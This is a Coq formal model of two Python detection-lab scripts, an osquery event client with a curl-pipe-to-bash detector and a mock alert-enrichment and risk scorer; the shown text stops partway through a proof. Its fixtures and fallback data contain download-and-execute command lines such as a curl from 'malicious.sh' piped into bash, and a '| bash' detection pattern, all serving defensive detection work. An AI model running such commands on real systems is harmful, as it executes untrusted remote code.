(** * detection-engineering-mini-lab: paginated osquery client and alert enrichment

    A shallow embedding of the two scripts of the repository,
    [python/detections/paginated_osquery_client_env.py] and
    [python/enrichment/enrich_alert.py], and the properties their
    specification states about them.

    Python values are a small universe [pyval]; a [dict] is a finite map
    from strings ([gmap string pyval]); code that can raise returns a
    [result]; the outcome of a network call is an argument of the function
    that performs it, and the enrichment runs in a state that holds the
    dict objects, the random generator and the clock. Lines printed to
    standard output are not modelled, nor are [load_config] and the two
    [main] entry points, which only read the environment and print. *)

From Stdlib Require Import ZArith QArith String Ascii List Lia Bool.
From stdpp Require Import gmap strings list fin_maps.

#[local] Set Warnings "-register-all".
#[local] Open Scope string_scope.
#[local] Open Scope Z_scope.
#[local] Open Scope list_scope.

(** ** Python values, exceptions and the builtins the scripts use *)

Module Py.

(** The values that JSON decoding and the scripts' literals produce. A
    [str] is its sequence of UTF-8 code units. *)
Inductive pyval : Type :=
  | VNone
  | VBool (b : bool)
  | VInt (z : Z)
  | VFloat (q : Q)
  | VStr (s : string)
  | VList (l : list pyval)
  | VDict (m : gmap string pyval).

Abbreviation dict := (gmap string pyval).

(** Exception classes, with the part of the hierarchy of [requests] that
    the [except] clauses tell apart. *)
Inductive exn_class : Type :=
  | HTTPError
  | ConnectionError
  | ConnectTimeout
  | ReadTimeout
  | TooManyRedirects
  | RequestsJSONDecodeError
  | RequestException
  | AttributeError
  | TypeError
  | ValueError
  | RuntimeError
  | IndexError
  | UnboundLocalError.

Record exn : Type := Exn { exn_cls : exn_class; exn_msg : string }.

(** [isinstance(e, requests.exceptions.HTTPError)]. *)
Definition is_HTTPError (e : exn) : bool :=
  match exn_cls e with
  | HTTPError => true
  | _ => false
  end.

(** [isinstance(e, requests.RequestException)]. *)
Definition is_RequestException (e : exn) : bool :=
  match exn_cls e with
  | HTTPError | ConnectionError | ConnectTimeout | ReadTimeout
  | TooManyRedirects | RequestsJSONDecodeError | RequestException => true
  | _ => false
  end.

Inductive result (A : Type) : Type :=
  | Ok (a : A)
  | Raise (e : exn).
Arguments Ok {A} a.
Arguments Raise {A} e.

#[export] Instance result_ret : MRet result := fun A a => Ok a.
#[export] Instance result_bind : MBind result := fun A B k c =>
  match c with
  | Ok a => k a
  | Raise e => Raise e
  end.

(** Truth value of an object, as [if x], [not x] and [x and y] test it. *)
Definition truthy (v : pyval) : bool :=
  match v with
  | VNone => false
  | VBool b => b
  | VInt z => negb (Z.eqb z 0)
  | VFloat q => negb (Qeq_bool q 0)
  | VStr s => negb (String.eqb s "")
  | VList l => match l with [] => false | _ => true end
  | VDict m => match map_to_list m with [] => false | _ => true end
  end.

(** Truth value of a dict-typed variable. *)
Definition dict_truthy (d : dict) : bool := truthy (VDict d).

(** [d.get(k)] and [d.get(k, dflt)] on a dict. *)
Definition dict_get (d : dict) (k : string) (dflt : pyval) : pyval :=
  match d !! k with
  | Some v => v
  | None => dflt
  end.

(** [v.get(k, dflt)] on an arbitrary object: only a dict has [get]. *)
Definition py_get (v : pyval) (k : string) (dflt : pyval) : result pyval :=
  match v with
  | VDict d => Ok (dict_get d k dflt)
  | _ => Raise (Exn AttributeError "object has no attribute 'get'")
  end.

(** [v in (s1, ..., sn)] for string constants: membership compares with
    [==], and only a [str] is equal to a [str]. *)
Definition py_in_strs (v : pyval) (l : list string) : bool :=
  match v with
  | VStr s => existsb (String.eqb s) l
  | _ => false
  end.

Definition ascii_lower (c : ascii) : ascii :=
  let n := N_of_ascii c in
  if ((65 <=? n) && (n <=? 90))%N then ascii_of_N (n + 32) else c.

(** [s.lower()]. The letters A-Z are lowered and every other code unit
    is kept: no character outside ASCII lowers to a character of the
    needle the script searches for. *)
Fixpoint str_lower (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c t => String (ascii_lower c) (str_lower t)
  end.

(** [v.lower()]: only a [str] has [lower]. *)
Definition py_lower (v : pyval) : result string :=
  match v with
  | VStr s => Ok (str_lower s)
  | _ => Raise (Exn AttributeError "object has no attribute 'lower'")
  end.

(** [needle in hay] for two strings: substring search. *)
Fixpoint str_contains (needle hay : string) : bool :=
  String.prefix needle hay ||
  match hay with
  | EmptyString => false
  | String _ t => str_contains needle t
  end.

(** A continuation byte of UTF-8, [10xxxxxx]. *)
Definition is_continuation (c : ascii) : bool :=
  let n := N_of_ascii c in
  ((128 <=? n) && (n <=? 191))%N.

(** The characters of a string: every leading byte with the continuation
    bytes that follow it. *)
Fixpoint str_chars (s : string) : list string :=
  match s with
  | EmptyString => []
  | String c t =>
      match str_chars t with
      | String d u :: us =>
          if is_continuation d then String c (String d u) :: us
          else String c EmptyString :: String d u :: us
      | chars => String c EmptyString :: chars
      end
  end.

(** The items that iterating over a value yields, as [list.extend]
    consumes them. A string yields its characters. A dict yields its
    keys; the map model does not keep their insertion order. *)
Definition py_iter (v : pyval) : result (list pyval) :=
  match v with
  | VList l => Ok l
  | VStr s => Ok (map VStr (str_chars s))
  | VDict m => Ok (map (fun kv => VStr (fst kv)) (map_to_list m))
  | _ => Raise (Exn TypeError "object is not iterable")
  end.

End Py.

Export Py.

(** ** The part of the [requests] library the scripts call *)

Module Requests.

(** A response object: its [status_code] and what [resp.json()] gives,
    the decoded body or the exception the decoder raises. *)
Record response : Type := Response { status_code : Z; json : result pyval }.

(** The outcome of one [requests.get]: a response, or the exception the
    call raises (connection refused, timeout, DNS failure, ...). *)
Inductive http_reply : Type :=
  | Replied (resp : response)
  | Failed (e : exn).

(** [resp.raise_for_status()]: an [HTTPError] for 4xx and 5xx. *)
Definition raise_for_status (resp : response) : result unit :=
  if Z.leb 400 (status_code resp) && Z.ltb (status_code resp) 600
  then Raise (Exn HTTPError "Client or Server Error")
  else Ok tt.

End Requests.

Export Requests.

(** ** paginated_osquery_client_env.py *)

Module Osquery.

(** The dict that [load_config] builds. *)
Record config : Type := Config {
  base_url : string;
  headers : gmap string string;
  page_size : Z
}.

(** The arguments of the [requests.get] call of [fetch_page]. *)
Record request : Type := Request {
  req_url : string;
  req_headers : gmap string string;
  req_params : dict;
  req_timeout : Z
}.

Definition empty_page : pyval :=
  VDict (<["events" := VList []]> (<["next_cursor" := VNone]> ∅)).

Definition fallback_page : pyval :=
  VDict (<["events" := VList [
            VDict (<["pid" := VInt 1]>
                   (<["cmdline" := VStr "bash -c 'curl https://malicious.sh | bash'"]> ∅));
            VDict (<["pid" := VInt 2]>
                   (<["cmdline" := VStr "curl https://legit.sh -o /tmp/x && bash /tmp/x"]> ∅))
          ]]> (<["next_cursor" := VNone]> ∅)).

(** [fetch_page], given the outcome [net] of its network call. It returns
    the request it sent together with its result. The first handler reads
    [resp], which is bound only when the call returned a response. *)
Definition fetch_page (base_url : string) (headers : gmap string string)
    (params : dict) (net : http_reply) : request * result pyval :=
  let url := base_url +:+ "/process_events" in
  let req := Request url headers params 5 in
  let resp : option response :=
    match net with
    | Replied r => Some r
    | Failed _ => None
    end in
  let body : result pyval :=
    match net with
    | Failed e => Raise e
    | Replied r => _ ← raise_for_status r; json r
    end in
  (req,
   match body with
   | Ok data => Ok data
   | Raise e =>
       if is_HTTPError e then
         match resp with
         | Some _ => Ok empty_page
         | None => Raise (Exn UnboundLocalError "resp")
         end
       else if is_RequestException e then Ok fallback_page
       else Raise e
   end).

(** How a run of [fetch_all_events] against a script of replies ends:
    it returns the list, an exception escapes, or the loop asks for a
    further page when the script has no reply left. *)
Inductive outcome : Type :=
  | Returned (all_events : list pyval)
  | Raised (e : exn)
  | Starved.

Record run : Type := Run {
  run_outcome : outcome;
  run_requests : list request;
  run_page_num : Z
}.

(** One iteration of the [while True] loop, up to the test of [cursor]:
    the request sent, and the new [all_events] and [cursor]. *)
Definition fetch_step (cfg : config) (all_events : list pyval) (cursor : pyval)
    (net : http_reply) : request * result (list pyval * pyval) :=
  let params : dict := <["limit" := VInt (page_size cfg)]> ∅ in
  let params : dict := if truthy cursor then <["cursor" := cursor]> params else params in
  let (req, fetched) := fetch_page (base_url cfg) (headers cfg) params net in
  (req,
   data ← fetched;
   events ← py_get data "events" (VList []);
   items ← py_iter events;
   let all_events := all_events ++ items in
   cursor ← py_get data "next_cursor" VNone;
   Ok (all_events, cursor)).

Fixpoint fetch_loop (cfg : config) (script : list http_reply)
    (all_events : list pyval) (cursor : pyval) (page_num : Z)
    (sent : list request) : run :=
  match script with
  | [] => Run Starved sent page_num
  | net :: script =>
      let (req, step) := fetch_step cfg all_events cursor net in
      let sent := sent ++ [req] in
      match step with
      | Raise e => Run (Raised e) sent page_num
      | Ok (all_events, cursor) =>
          if negb (truthy cursor) then Run (Returned all_events) sent page_num
          else fetch_loop cfg script all_events cursor (page_num + 1) sent
      end
  end.

Definition fetch_all_events (cfg : config) (script : list http_reply) : run :=
  fetch_loop cfg script [] VNone 1 [].

(** The condition of the comprehension of [detect_curl_pipe_bash]. *)
Definition is_curl_pipe_bash (e : pyval) : result bool :=
  cmdline ← py_get e "cmdline" (VStr "");
  lowered ← py_lower cmdline;
  Ok (str_contains "| bash" lowered).

Fixpoint detect_curl_pipe_bash (events : list pyval) : result (list pyval) :=
  match events with
  | [] => Ok []
  | e :: events =>
      hit ← is_curl_pipe_bash e;
      rest ← detect_curl_pipe_bash events;
      Ok (if hit : bool then e :: rest else rest)
  end.

End Osquery.

(** ** enrich_alert.py *)

Module Enrich.

(** The local [score] of [calculate_identity_risk] before the final [min]. *)
Definition risk_sum (user : dict) (geo : option dict) : Z :=
  let score := 0 in
  let score :=
    if py_in_strs (dict_get user "status" VNone) ["SUSPENDED"; "DEPROVISIONED"]
    then score + 60 else score in
  let score :=
    if negb (truthy (dict_get user "mfa_enabled" (VBool true)))
    then score + 20 else score in
  let score :=
    if match geo with
       | Some g => dict_truthy g && negb (py_in_strs (dict_get g "country" VNone) ["US"; "UK"])
       | None => false
       end
    then score + 20 else score in
  score.

Definition calculate_identity_risk (user : dict) (geo : option dict) : Z :=
  Z.min (risk_sum user geo) 100.

(** The module-level configuration. *)
Record api_config : Type := ApiConfig {
  okta_url : string;
  okta_token : string;
  geoip_key : string;
  env : string
}.

Definition get_env_var (environ : gmap string string) (name : string)
    (dflt : option string) : result string :=
  let val := match environ !! name with Some v => Some v | None => dflt end in
  match val with
  | None =>
      Raise (Exn RuntimeError ("Required environment variable '" +:+ name +:+ "' not set"))
  | Some val => Ok val
  end.

Definition API_CONFIG (environ : gmap string string) : result api_config :=
  okta_url ← get_env_var environ "OKTA_API_URL" (Some "https://demo.okta.com");
  okta_token ← get_env_var environ "OKTA_API_TOKEN" (Some "dummy_token");
  Ok (ApiConfig okta_url okta_token
        (default "" (environ !! "GEOIP_API_KEY"))
        (default "dev" (environ !! "ENV"))).

(** *** The state the enrichment runs in

    Dict objects live in a store and are passed by reference, so that a
    write to the caller's alert would be visible. The random generator is
    the sequence of its draws, the clock a reading in seconds, and the
    geolocation service the outcome of the request sent to it. *)

Abbreviation loc := positive.

Record world : Type := World {
  heap : gmap loc dict;
  entropy : nat -> nat;
  drawn : nat;
  clock : Z;
  geo_net : http_reply;
  geo_sent : list string
}.

Definition M (A : Type) : Type := world -> result A * world.

#[export] Instance M_ret : MRet M := fun A a w => (Ok a, w).
#[export] Instance M_bind : MBind M := fun A B k c w =>
  match c w with
  | (Ok a, w) => k a w
  | (Raise e, w) => (Raise e, w)
  end.

(** [try: body / except <classes> as e: handler e]. *)
Definition try_except {A : Type} (body : M A) (catches : exn -> bool)
    (handler : exn -> M A) : M A := fun w =>
  match body w with
  | (Ok a, w) => (Ok a, w)
  | (Raise e, w) => if catches e then handler e w else (Raise e, w)
  end.

Definition lift {A : Type} (c : result A) : M A := fun w => (c, w).

(** A dict display or literal creates a new object. *)
Definition alloc (d : dict) : M loc := fun w =>
  let l := fresh (dom (heap w)) in
  (Ok l, World (<[l := d]> (heap w)) (entropy w) (drawn w) (clock w) (geo_net w) (geo_sent w)).

(** Reading the object behind a reference; every reference the scripts
    hold is allocated. The reads that [d.get] and [**d] make are grouped
    where the object is first needed: nothing writes in between. *)
Definition load (l : loc) : M dict := fun w =>
  (Ok (default ∅ (heap w !! l)), w).

Definition draw : M nat := fun w =>
  (Ok (entropy w (drawn w)),
   World (heap w) (entropy w) (S (drawn w)) (clock w) (geo_net w) (geo_sent w)).

(** [random.choice(seq)]. *)
Definition random_choice {A : Type} (seq : list A) : M A :=
  match seq with
  | [] => lift (Raise (Exn IndexError "Cannot choose from an empty sequence"))
  | x :: _ =>
      i ← draw;
      mret (nth (i mod length seq)%nat seq x)
  end.

(** [random.randint(a, b)]. *)
Definition random_randint (a b : Z) : M Z :=
  i ← draw;
  mret (a + Z.of_nat i mod (b - a + 1)).

(** [int(time.time())]. *)
Definition time_time : M Z := fun w => (Ok (clock w), w).

(** [requests.get(url, timeout=5)] to the geolocation service. *)
Definition requests_get (url : string) : M response := fun w =>
  let w := World (heap w) (entropy w) (drawn w) (clock w) (geo_net w) (geo_sent w ++ [url]) in
  match geo_net w with
  | Replied resp => (Ok resp, w)
  | Failed e => (Raise e, w)
  end.

Section Formatting.

(** [repr] of numbers and containers, which [str] and f-strings fall
    back to; its text is immaterial here. *)
Variable py_repr : pyval -> string.

Definition py_str (v : pyval) : string :=
  match v with
  | VStr s => s
  | VNone => "None"
  | VBool true => "True"
  | VBool false => "False"
  | _ => py_repr v
  end.

Definition get_identity_from_okta (user_id : pyval) : M loc :=
  try_except
    (let departments := ["Security"; "Engineering"; "Finance"; "HR"] in
     mfa_enabled ← random_choice [true; false];
     department ← random_choice departments;
     status ← random_choice ["ACTIVE"; "SUSPENDED"; "DEPROVISIONED"];
     now ← time_time;
     ago ← random_randint 0 (86400 * 30);
     alloc (<["last_login" := VInt (now - ago)]>
            (<["mfa_enabled" := VBool mfa_enabled]>
             (<["status" := VStr status]>
              (<["department" := VStr department]>
               (<["email" := VStr (py_str user_id +:+ "@example.com")]>
                (<["user_id" := user_id]> ∅)))))))
    is_RequestException
    (fun e => alloc (<["user_id" := user_id]> (<["error" := VStr (exn_msg e)]> ∅))).

Definition get_geoip_info (cfg : api_config) (ip : pyval) : M loc :=
  if negb (truthy (VStr (geoip_key cfg))) then
    let cities := ["London"; "New York"; "Paris"; "Tokyo"] in
    let countries := ["UK"; "US"; "FR"; "JP"] in
    i ← random_randint 0 (Z.of_nat (length cities) - 1);
    alloc (<["country" := VStr (nth (Z.to_nat i) countries "")]>
           (<["city" := VStr (nth (Z.to_nat i) cities "")]>
            (<["ip" := ip]> ∅)))
  else
    try_except
      (resp ← requests_get ("https://api.ipgeolocation.io/ipgeo?apiKey="
                             +:+ geoip_key cfg +:+ "&ip=" +:+ py_str ip);
       _ ← lift (raise_for_status resp);
       data ← lift (json resp);
       city ← lift (py_get data "city" VNone);
       country ← lift (py_get data "country_name" VNone);
       alloc (<["country" := country]> (<["city" := city]> (<["ip" := ip]> ∅))))
      is_RequestException
      (fun e => alloc (<["error" := VStr (exn_msg e)]> (<["ip" := ip]> ∅))).

Definition enrich_alert (cfg : api_config) (alert : loc) : M loc :=
  a ← load alert;
  let user_id := dict_get a "user_id" VNone in
  let src_ip := dict_get a "src_ip" VNone in
  identity_data ← get_identity_from_okta user_id;
  geo_data ← (if truthy src_ip then get_geoip_info cfg src_ip else alloc ∅);
  identity ← load identity_data;
  geo ← load geo_data;
  let risk_score := calculate_identity_risk identity (Some geo) in
  a ← load alert;
  alloc (<["enrichment_env" := VStr (env cfg)]>
         (<["risk_score" := VInt risk_score]>
          (<["geo_city" := dict_get geo "city" VNone]>
           (<["geo_country" := dict_get geo "country" VNone]>
            (<["last_login" := dict_get identity "last_login" VNone]>
             (<["mfa_enabled" := dict_get identity "mfa_enabled" VNone]>
              (<["user_status" := dict_get identity "status" VNone]>
               (<["user_department" := dict_get identity "department" VNone]>
                (<["user_email" := dict_get identity "email" VNone]> a))))))))).

End Formatting.

End Enrich.

(** ** paginated_osquery_client_env.py: configuration *)

Module OsqueryConfig.

Import Osquery.

(** [c in chars] for a character. *)
Fixpoint char_in (c : ascii) (chars : string) : bool :=
  match chars with
  | EmptyString => false
  | String d chars => Ascii.eqb c d || char_in c chars
  end.

(** [s.rstrip(chars)]: [s] without its trailing characters that occur
    in [chars]. *)
Fixpoint str_rstrip (chars s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c t =>
      match str_rstrip chars t with
      | EmptyString => if char_in c chars then EmptyString else String c EmptyString
      | t' => String c t'
      end
  end.

(** Truth value of what [os.getenv] returns: [None] and the empty string
    are false. *)
Definition env_truthy (v : option string) : bool :=
  match v with
  | Some s => truthy (VStr s)
  | None => false
  end.

(** How [load_config] ends: with the configuration, with [sys.exit], or
    with the exception that [int] raises. *)
Inductive load_outcome : Type :=
  | Loaded (cfg : config)
  | Exited (status : Z)
  | LoadRaised (e : exn).

Section Builtin.

(** The builtin [int] on a string: the integer it denotes, or the
    [ValueError] it raises. *)
Variable py_int : string -> result Z.

Definition load_config (environ : gmap string string) : load_outcome :=
  let base_url := environ !! "OSQUERY_API_URL" in
  let token := environ !! "OSQUERY_API_TOKEN" in
  match py_int (default "50" (environ !! "PAGE_SIZE")) with
  | Raise e => LoadRaised e
  | Ok page_size =>
      if negb (env_truthy base_url) || negb (env_truthy token) then Exited 1
      else
        Loaded (Config (str_rstrip "/" (default "" base_url))
                       (<["Authorization" := "Bearer " +:+ default "" token]> ∅)
                       page_size)
  end.

End Builtin.

End OsqueryConfig.

(** ** The specification's vocabulary *)

Module Spec.

Import Osquery Enrich.

(** *** Risk Scorer (data model and section 4.5 of the specification) *)

(** An IdentityRecord carries a boolean [mfa_enabled], or lacks the field
    (as the error marker [{error, user_id}] does). *)
Definition identity_record (user : dict) : Prop :=
  match user !! "mfa_enabled" with
  | None | Some (VBool _) => True
  | Some _ => False
  end.

(** [identity.status ∈ {SUSPENDED, DEPROVISIONED}]. *)
Definition status_risky (user : dict) : bool :=
  match user !! "status" with
  | Some (VStr s) => bool_decide (s ∈ ["SUSPENDED"; "DEPROVISIONED"])
  | _ => false
  end.


(** A geo record is present when one is given and it is not the empty
    record that stands for a lookup that was never made. *)
Definition geo_present (geo : option dict) : bool :=
  match geo with
  | Some g => negb (bool_decide (dom g = ∅))
  | None => false
  end.

(** [geo.country ∈ {US, UK}]. *)
Definition country_usual (g : dict) : bool :=
  match g !! "country" with
  | Some (VStr c) => bool_decide (c ∈ ["US"; "UK"])
  | _ => false
  end.

(** A geo record is present and its [country] field, a missing one
    included, is not US or UK. *)
Definition unusual_geo (geo : option dict) : bool :=
  geo_present geo &&
  match geo with
  | Some g => negb (country_usual g)
  | None => false
  end.




(** The GeoRecord [{ip, error}] of a failed lookup. *)
Definition geo_error_marker (ip : pyval) (msg : string) : dict :=
  <["error" := VStr msg]> (<["ip" := ip]> ∅).

(** Scenario B: an active identity with MFA. *)
Definition scenario_b_identity : dict :=
  <["status" := VStr "ACTIVE"]> (<["mfa_enabled" := VBool true]> ∅).

(** Scenario C: a suspended identity without MFA, seen from France. *)
Definition scenario_c_identity : dict :=
  <["status" := VStr "SUSPENDED"]> (<["mfa_enabled" := VBool false]> ∅).

Definition scenario_c_geo : dict := <["country" := VStr "FR"]> ∅.

(** *** Detection Filter (section 4.3) *)

(** The alphabet in its two cases. *)
Definition upper_case : string := "ABCDEFGHIJKLMNOPQRSTUVWXYZ".
Definition lower_case : string := "abcdefghijklmnopqrstuvwxyz".

(** Every upper-case letter with its lower-case form. *)
Definition letter_pairs : list (ascii * ascii) :=
  combine (list_ascii_of_string upper_case) (list_ascii_of_string lower_case).

(** Two characters are the same up to case: the same character, or the
    two forms of one letter. *)
Definition same_letter (c d : ascii) : Prop :=
  c = d ∨ (c, d) ∈ letter_pairs ∨ (d, c) ∈ letter_pairs.

(** Two strings are equal up to case, character by character. *)
Fixpoint ci_eq (s t : string) : Prop :=
  match s, t with
  | EmptyString, EmptyString => True
  | String c s, String d t => same_letter c d ∧ ci_eq s t
  | _, _ => False
  end.

(** [hay], compared case-insensitively, contains [needle]: some
    contiguous part of [hay] equals [needle] up to case. *)
Definition ci_contains (needle hay : string) : Prop :=
  ∃ pre mid post : string,
    hay = pre +:+ mid +:+ post ∧ ci_eq mid needle.

(** An Event is a mapping whose [cmdline], when present, is a string. *)
Definition is_event (e : pyval) : Prop :=
  ∃ d : dict, e = VDict d ∧
    (d !! "cmdline" = None ∨ ∃ s, d !! "cmdline" = Some (VStr s)).

(** The [cmdline] of an event, the empty string when absent. *)
Definition cmdline_of (e : pyval) : string :=
  match e with
  | VDict d => match d !! "cmdline" with Some (VStr s) => s | _ => "" end
  | _ => ""
  end.

Definition suspicious (e : pyval) : Prop := ci_contains "| bash" (cmdline_of e).

(** [r] is the subsequence of [l] made of exactly the elements that
    satisfy [P], in their order. *)
Inductive selects {A : Type} (P : A -> Prop) : list A -> list A -> Prop :=
  | selects_nil : selects P [] []
  | selects_keep x l r : P x -> selects P l r -> selects P (x :: l) (x :: r)
  | selects_drop x l r : ¬ P x -> selects P l r -> selects P (x :: l) r.

(** *** Page Fetcher and Pagination Driver (sections 3, 4.1 and 4.2) *)

Record PageResult : Type := Page {
  events : list pyval;
  next_cursor : pyval
}.

(** The decoded body [data] is the page [p]; a missing [events] is the
    empty sequence and a missing [next_cursor] is null. *)
Definition page_of (data : pyval) (p : PageResult) : Prop :=
  ∃ d : dict, data = VDict d
    ∧ dict_get d "events" (VList []) = VList (events p)
    ∧ dict_get d "next_cursor" VNone = next_cursor p.

(** The reply [net] makes the Page Fetcher return the page [p]. *)
Definition serves (net : http_reply) (p : PageResult) : Prop :=
  ∀ base_url headers params, ∃ data,
    snd (fetch_page base_url headers params net) = Ok data ∧ page_of data p.

(** A cursor is an optional opaque token: null or a string. *)
Definition cursor_typed (c : pyval) : Prop := c = VNone ∨ ∃ s, c = VStr s.

(** Null or the empty string. *)
Definition cursor_terminal (c : pyval) : Prop := c = VNone ∨ c = VStr "".

(** Non-null and non-empty. *)
Definition cursor_live (c : pyval) : Prop := ∃ s, c = VStr s ∧ s ≠ "".

(** A finite chain of live cursors that ends in a terminal one. *)
Definition chain (pages : list PageResult) : Prop :=
  ∃ init last, pages = init ++ [last]
    ∧ Forall (fun p => cursor_live (next_cursor p)) init
    ∧ cursor_terminal (next_cursor last).

(** The pages the driver gets to fetch: up to and including the first
    one whose cursor ends the iteration. *)
Fixpoint fetched (pages : list PageResult) : list PageResult :=
  match pages with
  | [] => []
  | p :: pages => if truthy (next_cursor p) then p :: fetched pages else [p]
  end.

(** Some page of the sequence ends the iteration. *)
Definition exhausts (pages : list PageResult) : bool :=
  existsb (fun p => negb (truthy (next_cursor p))) pages.

(** A failure below HTTP: connection refused or DNS failure
    ([ConnectionError]), or a timeout. *)
Definition transport_failure (e : exn) : Prop :=
  exn_cls e = ConnectionError ∨ exn_cls e = ConnectTimeout ∨ exn_cls e = ReadTimeout.

(** Scenario A. *)
Definition scenario_a_first : pyval :=
  VDict (<["cmdline" := VStr "bash -c 'curl x | bash'"]> ∅).

Definition scenario_a_events : list pyval :=
  [scenario_a_first; VDict (<["cmdline" := VStr "ls -la"]> ∅)].

(** Scenario A in capitals, and a pipe into a shell spelt in mixed case. *)
Definition shouted_first : pyval :=
  VDict (<["cmdline" := VStr "BASH -C 'CURL X | BASH'"]> ∅).

Definition shouted_events : list pyval :=
  [shouted_first;
   VDict (<["cmdline" := VStr "LS -LA"]> ∅);
   VDict (<["pid" := VInt 9]> (<["cmdline" := VStr "wget -qO- x | BaSh"]> ∅))].

(** The JSON object of a page, and a 200 reply that carries it. *)
Definition page_json (p : PageResult) : pyval :=
  VDict (<["events" := VList (events p)]> (<["next_cursor" := next_cursor p]> ∅)).

Definition ok_reply (p : PageResult) : http_reply :=
  Replied (Response 200 (Ok (page_json p))).

(** A two-page chain and the configuration of the usage example. *)
Definition demo_pages : list PageResult :=
  [Page [VDict (<["pid" := VInt 7]> (<["cmdline" := VStr "ls -la"]> ∅));
         VDict (<["pid" := VInt 8]> ∅)] (VStr "page-2");
   Page [VDict (<["pid" := VInt 7]> (<["cmdline" := VStr "ls -la"]> ∅))] VNone].

Definition demo_config : config :=
  Config "https://mock.local/osquery"
         (<["Authorization" := "Bearer demo_token"]> ∅) 10.

(** *** Enrichment Orchestrator (section 4.6) *)

Definition enrichment_keys : list string :=
  ["user_email"; "user_department"; "user_status"; "mfa_enabled"; "last_login";
   "geo_country"; "geo_city"; "risk_score"; "enrichment_env"].

(** The geolocation service answers with a JSON object, with an error
    status, or fails with an error of the [requests] library. *)
Definition geo_answers (net : http_reply) : Prop :=
  match net with
  | Failed e => is_RequestException e = true
  | Replied resp =>
      (400 <= status_code resp < 600)
      ∨ (∃ d, json resp = Ok (VDict d))
      ∨ (∃ e, json resp = Raise e ∧ is_RequestException e = true)
  end.

(** The sample alert of the script's demo, stored at address 1, in a
    world whose geolocation service refuses the connection. *)
Definition demo_alert : dict :=
  <["alert_id" := VStr "aa-001"]>
  (<["user_id" := VStr "alice"]>
   (<["src_ip" := VStr "8.8.8.8"]>
    (<["hostname" := VStr "ip-10-0-5-12"]>
     (<["timestamp" := VInt 1700000000]> ∅)))).

Definition demo_world : world :=
  World (<[1%positive := demo_alert]> ∅) (fun i => i) 0 1700000000
        (Failed (Exn ConnectionError "connection refused")) [].

Definition demo_api_config : api_config :=
  ApiConfig "https://demo.okta.com" "dummy_token" "example_geo_key" "dev".


End Spec.

(** ** Further vocabulary for the properties of the code *)

Module Notions.

Import Osquery OsqueryConfig Enrich Spec.

(** Every character of [s] satisfies [P]. *)
Fixpoint str_forallb (P : ascii -> bool) (s : string) : bool :=
  match s with
  | EmptyString => true
  | String c t => P c && str_forallb P t
  end.

(** The last character of [s]. *)
Fixpoint str_last (s : string) : option ascii :=
  match s with
  | EmptyString => None
  | String c EmptyString => Some c
  | String _ t => str_last t
  end.

(** [s] does not end with a character of [chars]. *)
Definition ends_clean (chars s : string) : Prop :=
  match str_last s with
  | Some c => char_in c chars = false
  | None => True
  end.

(** An environment for the usage example of the osquery client. *)
Definition demo_environ : gmap string string :=
  <["OSQUERY_API_URL" := "https://mock.local/osquery//"]>
  (<["OSQUERY_API_TOKEN" := "demo_token"]>
   (<["PAGE_SIZE" := "10"]> ∅)).
(** The request the driver sends when its cursor is [cursor]. *)
Definition request_for (cfg : config) (cursor : pyval) : request :=
  fst (fetch_step cfg [] cursor (Failed (Exn RequestException ""))).

(** A reading of [int] that knows the page size of the usage example. *)
Definition demo_int (s : string) : result Z :=
  if String.eqb s "10" then Ok 10
  else Raise (Exn ValueError "invalid literal for int() with base 10").

(** The first page of the demo chain, whose cursor asks for more, and
    the reply that carries it. *)
Definition demo_live_pages : list PageResult := take 1 demo_pages.

Definition demo_live_script : list http_reply := map ok_reply demo_live_pages.

(** The fields of a record that the mock identity lookup can return for
    [user_id] when the clock reads [now]. *)
Definition generated_identity (email : string) (now : Z) (user_id : pyval)
    (d : dict) : Prop :=
  dom d = {["user_id"; "email"; "department"; "status"; "mfa_enabled"; "last_login"]}
  ∧ d !! "user_id" = Some user_id
  ∧ d !! "email" = Some (VStr email)
  ∧ (∃ s, d !! "department" = Some (VStr s)
          ∧ s ∈ ["Security"; "Engineering"; "Finance"; "HR"])
  ∧ (∃ s, d !! "status" = Some (VStr s)
          ∧ s ∈ ["ACTIVE"; "SUSPENDED"; "DEPROVISIONED"])
  ∧ (∃ b, d !! "mfa_enabled" = Some (VBool b))
  ∧ (∃ t, d !! "last_login" = Some (VInt t) ∧ now - 86400 * 30 <= t <= now).

(** The geolocation request fails in a way the lookup catches: the call
    raises an error of [requests], the status is 4xx or 5xx, or decoding
    the body raises an error of [requests]. *)
Definition geo_lookup_fails (net : http_reply) : Prop :=
  match net with
  | Failed e => is_RequestException e = true
  | Replied resp =>
      (400 <= status_code resp < 600)
      ∨ (∃ e, json resp = Raise e ∧ is_RequestException e = true)
  end.

(** The IdentityRecord [{error, user_id}] of a failed lookup. *)
Definition identity_error_marker (user_id : pyval) (msg : string) : dict :=
  <["user_id" := user_id]> (<["error" := VStr msg]> ∅).

(** A world whose geolocation service answers with a record for Lyon. *)
Definition demo_geo_body : dict :=
  <["city" := VStr "Lyon"]>
  (<["country_name" := VStr "France"]>
   (<["country" := VStr "FR"]> ∅)).

Definition demo_world_online : world :=
  World (<[1%positive := demo_alert]> ∅) (fun i => i) 0 1700000000
        (Replied (Response 200 (Ok (VDict demo_geo_body)))) [].

(** The configuration of a run without a geolocation key. *)
Definition demo_api_config_mock : api_config :=
  ApiConfig "https://demo.okta.com" "dummy_token" "" "dev".

(** A [repr] for the examples; no example formats a number or a
    container. *)
Definition demo_repr (v : pyval) : string := "".

(** A world whose geolocation service answers with a JSON array, and one
    whose alert has no source address. *)
Definition demo_world_garbled : world :=
  World (<[1%positive := demo_alert]> ∅) (fun i => i) 0 1700000000
        (Replied (Response 200 (Ok (VList [])))) [].

Definition demo_world_no_ip : world :=
  World (<[1%positive := delete "src_ip" demo_alert]> ∅) (fun i => i) 0 1700000000
        (Failed (Exn ConnectionError "connection refused")) [].


End Notions.

(** * Properties *)

Import Osquery Enrich Spec.
Import OsqueryConfig Notions.

(** ** Builtins *)

Section Builtins.

Lemma existsb_eqb_elem (s : string) (l : list string) :
  existsb (String.eqb s) l = bool_decide (s ∈ l).
Proof.
  induction l as [|t l IH]; cbn [existsb].
  - symmetry. apply bool_decide_eq_false_2. inversion 1.
  - destruct (String.eqb_spec s t) as [->|Hne]; cbn [orb].
    + symmetry. apply bool_decide_eq_true_2. left.
    + rewrite IH. apply bool_decide_ext. split.
      * intros H. by right.
      * intros H. inversion H; subst; [done|assumption].
Qed.

Lemma dict_truthy_dom (d : dict) :
  dict_truthy d = negb (bool_decide (dom d = ∅)).
Proof.
  unfold dict_truthy, truthy.
  destruct (map_to_list d) as [|kv l] eqn:E.
